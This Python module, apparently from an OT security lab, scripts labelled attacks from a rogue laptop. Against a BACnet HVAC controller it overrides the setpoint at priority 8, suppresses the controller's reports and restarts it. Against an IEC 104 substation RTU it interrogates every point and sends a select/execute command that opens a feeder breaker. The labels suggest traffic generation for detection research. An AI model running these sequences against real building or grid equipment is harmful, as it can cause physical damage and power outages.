"""Attack scenarios on the building controller (BACnet/IP) and the substation RTU
(IEC 60870-5-104), played from the rogue laptop on the supervisory LAN (the flat OT
network reaches the building and the substation from there) with the same stacks the
plant's own clients use (bacpypes3, c104), each request labelled as it leaves.

``bacnet-attack``: the rogue host finds the HVAC controller (directed Who-Is), writes the
zone setpoint at priority 8 (manual operator, above the BMS's schedules), silences the
controller's reports (DeviceCommunicationControl disable-initiation), restarts it
(ReinitializeDevice warmstart) and lets its reports resume.

``iec104-command``: the rogue host opens a connection to the RTU (STARTDT), interrogates
every point (C_IC_NA_1) and opens the feeder breaker with a single command, select
then execute (C_SC_NA_1). c104 has no reset process command (C_RP_NA_1 is not among
the point types it can send), so the lab does not send one.
"""

from __future__ import annotations

import time
from typing import Any

import c104

from otconduit.lab import addresses as A
from otconduit.lab.bacnet_client import (
    BACNET_ERRORS,
    client_app,
    communication_control,
    reinitialize,
    who_is,
    write_setpoint,
)
from otconduit.lab.iec104_client import Station104
from otconduit.lab.labels import BACNET_SERVICES, IEC104_TYPES, Label
from otconduit.lab.runtime import NETWORK_ERRORS, PlantRuntime

ROGUE_SETPOINT = 30.0  # degC: nine above the zone's 21.0, the BMS never asks for it
ROGUE_PRIORITY = 8  # "manual operator": outranks every schedule and the BMS's own writes
DCC_MINUTES = 5  # the silence asked for; the rogue host lifts it after SILENCE plant s
SILENCE = 20.0


def _bacnet_label(
    rt: PlantRuntime, kind: str, service: str, ts: float, description: str, **kw: Any
) -> Label:
    known = BACNET_SERVICES.get(service)
    code, op = (known[0], known[1]) if known is not None else (None, "identity")
    return rt.labels.add(
        scenario="bacnet-attack",
        kind=kind,
        ts=ts,
        src_ip=A.ROGUE.ip,
        dst_ip=A.BUILDING_CONTROLLER.ip,
        dst_port=A.BACNET.port,
        protocol="bacnet",
        operation=op,
        function=service,
        function_code=code,
        description=description,
        **kw,
    )


async def bacnet_attack(rt: PlantRuntime, t0: float) -> None:
    if not await rt.wait_until(t0):
        return
    app = client_app(A.ROGUE.ip, 4066, "laptop")
    try:
        ts = time.time()
        if await who_is(app):
            _bacnet_label(
                rt,
                "bacnet-discovery",
                "Who-Is",
                ts,
                "rogue host asks the HVAC controller who it is (directed Who-Is, I-Am back)",
            )
        ts = time.time()
        await write_setpoint(app, ROGUE_SETPOINT, ROGUE_PRIORITY)
        _bacnet_label(
            rt,
            "bacnet-write",
            "WriteProperty",
            ts,
            f"rogue host writes the zone 1 setpoint (analog-value 1) to {ROGUE_SETPOINT:g} degC "
            f"at priority {ROGUE_PRIORITY}",
            address=1,
            values=[ROGUE_SETPOINT],
            extra={"object": "analog-value,1", "priority": ROGUE_PRIORITY},
        )
        ts = time.time()
        await communication_control(app, "disableInitiation", DCC_MINUTES)
        _bacnet_label(
            rt,
            "bacnet-dcc",
            "DeviceCommunicationControl",
            ts,
            "rogue host tells the HVAC controller to stop initiating messages (its COV "
            f"reports to the BMS) for {DCC_MINUTES} min",
            extra={"enable_disable": "disable-initiation", "minutes": DCC_MINUTES},
        )
        if await rt.sleep_plant(2.0):
            return
        ts = time.time()
        await reinitialize(app, "warmstart")
        _bacnet_label(
            rt,
            "bacnet-reinitialize",
            "ReinitializeDevice",
            ts,
            "rogue host restarts the HVAC controller (ReinitializeDevice warmstart)",
            extra={"state": "warmstart"},
        )
        if await rt.sleep_plant(SILENCE):
            return
        ts = time.time()
        await communication_control(app, "enable", None)
        _bacnet_label(
            rt,
            "bacnet-dcc-enable",
            "DeviceCommunicationControl",
            ts,
            "rogue host lets the controller report again (DeviceCommunicationControl enable)",
            extra={"enable_disable": "enable"},
        )
    except BACNET_ERRORS:
        rt.errors["bacnet-attack"] += 1
    finally:
        app.close()


def _iec104_label(
    rt: PlantRuntime, kind: str, type_name: str, ts: float, description: str, **kw: Any
) -> Label:
    code, op = IEC104_TYPES[type_name]
    return rt.labels.add(
        scenario="iec104-command",
        kind=kind,
        ts=ts,
        src_ip=A.ROGUE.ip,
        dst_ip=A.SUBSTATION_RTU.ip,
        dst_port=A.IEC104.port,
        protocol="iec104",
        operation=op,
        function=type_name,
        function_code=code,
        description=description,
        **kw,
    )


async def iec104_command(rt: PlantRuntime, t0: float) -> None:
    if not await rt.wait_until(t0):
        return
    link = Station104(A.ROGUE.ip, c104.Init.NONE)
    try:
        await link.open()
        await link.interrogation()
        _iec104_label(
            rt,
            "iec104-interrogation",
            "C_IC_NA_1",
            link.last_sent,
            "rogue host interrogates every point of the substation RTU (station interrogation)",
            extra={"common_address": 20},
        )
        done = await link.breaker_command(False)
        ts = link.last_sent
        common = {"address": 3001, "values": [0]}
        _iec104_label(
            rt,
            "iec104-select",
            "C_SC_NA_1",
            ts,
            "rogue host selects the feeder breaker's control (single command, S/E = select)",
            extra={"select": True},
            **common,
        )
        _iec104_label(
            rt,
            "iec104-execute",
            "C_SC_NA_1",
            ts,
            "rogue host executes the single command: the feeder breaker opens",
            extra={"select": False, "confirmed": done},
            **common,
        )
    except NETWORK_ERRORS:
        rt.errors["iec104-command"] += 1
    finally:
        await link.close()
